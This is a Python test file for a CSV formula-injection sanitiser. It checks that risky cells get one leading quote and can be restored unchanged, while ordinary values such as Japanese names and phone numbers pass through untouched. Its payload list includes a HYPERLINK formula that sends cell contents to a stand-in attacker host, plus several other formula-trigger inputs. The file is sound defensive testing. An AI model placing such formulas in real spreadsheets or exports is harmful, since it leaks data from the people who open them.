"""CSV formula injection: every CSV a spreadsheet or robot may open is neutralised, reversibly."""

from __future__ import annotations

import csv
import io

import pytest
from yomitori.csvcell import neutralise_cell, restore_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=already quoted",
    "'",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_cell_gets_one_quote_and_comes_back_raw(value):
    # Given a value a spreadsheet would evaluate (or one that starts with a quote)
    # When it is neutralised, written as CSV, read back and restored
    cell = neutralise_cell(value)
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerow([cell])
    back = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))[0]
    # Then the cell starts with a quote, and restoring gives the raw value
    assert cell.startswith("'") and cell[1:] == value
    assert restore_cell(back) == value


@pytest.mark.parametrize("value", ["山田太郎", "03-1234-5678", "123456789018", "", "a=b", "東京都-1"])
def test_an_ordinary_value_is_unchanged(value):
    assert neutralise_cell(value) == value == restore_cell(neutralise_cell(value))
